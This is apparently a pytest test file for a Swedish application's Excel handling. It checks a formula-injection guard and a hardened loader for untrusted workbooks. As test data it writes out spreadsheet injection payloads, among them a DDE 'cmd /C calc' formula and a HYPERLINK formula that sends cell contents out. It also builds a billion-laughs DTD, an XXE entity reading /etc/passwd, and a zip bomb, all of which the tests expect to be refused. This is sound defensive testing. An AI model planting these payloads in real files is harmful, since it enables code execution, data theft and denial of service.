"""Formula-injection guard (real openpyxl round trip) and the hardened loader for untrusted
workbooks (defusedxml active, billion laughs and external entities refused, zip bombs refused)."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.services.excel.spreadsheet import (
    UnsafeWorkbookError,
    defused_xml_active,
    read_rows,
    safe_cell,
    safe_row,
    untrusted_workbook,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\uff1d1+1",
]


def _roundtrip(values: list) -> tuple[list, str]:
    wb = openpyxl.Workbook()
    ws = wb.active
    for v in values:
        ws.append([safe_cell(v)])
    buf = io.BytesIO()
    wb.save(buf)
    xml = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    buf.seek(0)
    back = openpyxl.load_workbook(buf)
    return [(c.value, c.data_type) for c in back.active["A"]], xml


def test_unguarded_equals_sign_really_becomes_a_formula():
    """The reason for the guard: openpyxl writes any '=…' string as a formula."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    assert wb.active["A1"].data_type == "f"


def test_guarded_cells_come_back_as_plain_text_without_formula_elements():
    cells, xml = _roundtrip(DANGEROUS)
    assert "<f>" not in xml and "<f " not in xml
    for original, (value, data_type) in zip(DANGEROUS, cells, strict=True):
        assert data_type == "s"
        assert value == "'" + original


def test_harmless_values_pass_unchanged():
    values = ["Tips polis", "-", "+", "a=b", "Södermalm", -5, 3.5, 0, None, True]
    assert safe_row(values) == values
    cells, xml = _roundtrip([v for v in values if v is not None])
    assert "<f>" not in xml
    assert cells[5] == (-5, "n")


def _xlsx_with(part: str, xml: str) -> bytes:
    wb = openpyxl.Workbook()
    wb.active.title = "Ärenden"
    wb.active.append(["Ärende", "Källa"])
    wb.active.append(["A-1", "BINR"])
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = xml.encode() if item.filename == part else src.read(item.filename)
            dst.writestr(item.filename, data)
    return out.getvalue()


LOL = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10))
    + '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)
SHEET_BODY = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row></sheetData></worksheet>'
)


def _read_all(source) -> list:
    with untrusted_workbook(source) as wb:
        return [row for ws in wb.worksheets for row in read_rows(ws)]


def test_defusedxml_is_what_openpyxl_uses():
    assert defused_xml_active()


@pytest.mark.parametrize(
    "doc",
    [
        LOL + SHEET_BODY.format(text="&lol9;"),
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + SHEET_BODY.format(text="&xxe;"),
    ],
    ids=["billion-laughs", "external-entity"],
)
def test_entity_tricks_in_a_sheet_are_refused(doc, tmp_path):
    path = tmp_path / "evil.xlsx"
    path.write_bytes(_xlsx_with("xl/worksheets/sheet1.xml", doc))
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(path)
    assert "skadliga" in err.value.message()


def test_entity_tricks_in_the_workbook_part_are_refused(tmp_path):
    path = tmp_path / "evil.xlsx"
    good = zipfile.ZipFile(io.BytesIO(_xlsx_with("none", ""))).read("xl/workbook.xml").decode()
    body = good.split("?>", 1)[-1]
    assert "Ärenden" in body
    evil = LOL + body.replace("Ärenden", "&lol9;")
    path.write_bytes(_xlsx_with("xl/workbook.xml", evil))
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(path)
    assert "skadliga" in err.value.message()


def test_not_a_workbook_and_zip_bomb_are_refused(tmp_path):
    text = tmp_path / "ark.xlsx"
    text.write_text("Ärende;Källa\n")
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(text)
    assert ".xlsx" in err.value.message()
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (40 * 1024 * 1024))
    with pytest.raises(UnsafeWorkbookError) as err:
        _read_all(bomb)
    assert "orimligt" in err.value.message()


def test_good_workbook_reads_from_path_and_stream(tmp_path):
    data = _xlsx_with("none", "")
    path = tmp_path / "ok.xlsx"
    path.write_bytes(data)
    assert _read_all(path) == [("Ärende", "Källa"), ("A-1", "BINR")]
    assert _read_all(io.BytesIO(data)) == [("Ärende", "Källa"), ("A-1", "BINR")]


def test_loader_refuses_when_defusedxml_is_switched_off(tmp_path):
    path = tmp_path / "ok.xlsx"
    path.write_bytes(_xlsx_with("none", ""))
    code = (
        "import sys\n"
        "from app.services.excel.spreadsheet import untrusted_workbook, UnsafeWorkbookError\n"
        "try:\n"
        f"    untrusted_workbook({str(path)!r}).__enter__()\n"
        "except UnsafeWorkbookError as e:\n"
        "    print('refused', e.message()); sys.exit(0)\n"
        "sys.exit(1)\n"
    )
    env = {"OPENPYXL_DEFUSEDXML": "False", "PATH": "/usr/bin:/bin"}
    result = subprocess.run(
        [sys.executable, "-c", code],
        env=env,
        capture_output=True,
        text=True,
        cwd=Path(__file__).resolve().parents[1],
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "defusedxml" in result.stdout


# --- the fast row reader ----------------------------------------------------------------------

_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Kontakter" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
        "</Relationships>"
    ),
    "xl/sharedStrings.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="3" uniqueCount="3">'
        "<si><t>Ärende</t></si><si><t>Digital</t></si>"
        "<si><r><t>Social</t></r><r><t>tjänst</t></r></si></sst>"
    ),
    "xl/styles.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy\\-mm\\-dd"/></numFmts>'
        '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
        '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
        '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
        "</cellXfs></styleSheet>"
    ),
    # Shared strings, a rich inline string, numbers, dates by two styles, a boolean, an error,
    # a formula's cached string, gaps in rows and columns, a row without r attributes.
    "xl/worksheets/sheet1.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:E6"/><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2"><v>17</v></c><c r="B2" s="1"><v>46030</v></c>'
        '<c r="C2" s="2"><v>46031.5</v></c><c r="D2"><v>2.5</v></c><c r="E2" t="s"><v>2</v></c></row>'
        '<row r="4"><c r="B4" t="b"><v>1</v></c><c r="C4" t="e"><v>#N/A</v></c>'
        '<c r="D4" t="str"><f>A1</f><v>Ärende</v></c>'
        '<c r="E4" t="inlineStr"><is><r><t>Fy</t></r><r><t>sisk</t></r></is></c></row>'
        '<row><c><v>1</v></c><c t="inlineStr"><is><t> text </t></is></c></row>'
        "</sheetData></worksheet>"
    ),
}


def _handmade(tmp_path, sheet_xml: str | None = None) -> Path:
    path = tmp_path / "excel.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in _PARTS.items():
            if name == "xl/worksheets/sheet1.xml" and sheet_xml is not None:
                text = sheet_xml
            z.writestr(name, text)
    return path


def test_fast_rows_read_what_openpyxl_reads(tmp_path):
    from datetime import datetime

    from app.services.excel.spreadsheet import sheet_rows

    path = _handmade(tmp_path)
    with untrusted_workbook(path) as wb:
        fast = list(sheet_rows(wb, wb.worksheets[0]))
    with untrusted_workbook(path) as wb:
        slow = [r for r in enumerate(read_rows(wb.worksheets[0]), start=1)]
    assert fast[0] == (1, ("Ärende", None, "Digital"))
    assert fast[1] == (
        2,
        (17, datetime(2026, 1, 8), datetime(2026, 1, 9, 12), 2.5, "Socialtjänst"),
    )
    assert fast[2] == (4, (None, True, "#N/A", "Ärende", "Fysisk"))
    assert fast[3] == (5, (1, " text "))
    # openpyxl pads rows to the sheet's width and yields the empty row 3; otherwise the same.
    slow_rows = {
        n: tuple(v for v in values) for n, values in slow if any(x is not None for x in values)
    }
    for number, values in fast:
        assert slow_rows[number][: len(values)] == values
        assert all(v is None for v in slow_rows[number][len(values) :])


def test_fast_rows_refuse_a_dtd_themselves(tmp_path):
    from app.services.excel.spreadsheet import _refuse_dtd

    evil = LOL + SHEET_BODY.format(text="&lol9;")
    with pytest.raises(UnsafeWorkbookError):
        _refuse_dtd(evil.encode())
    doctype_only = '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://x.invalid/a.dtd">'
    with pytest.raises(UnsafeWorkbookError):
        _refuse_dtd((doctype_only + SHEET_BODY.format(text="a")).encode())
    _refuse_dtd(SHEET_BODY.format(text="&amp; &#229;").encode())  # predefined/char refs are fine
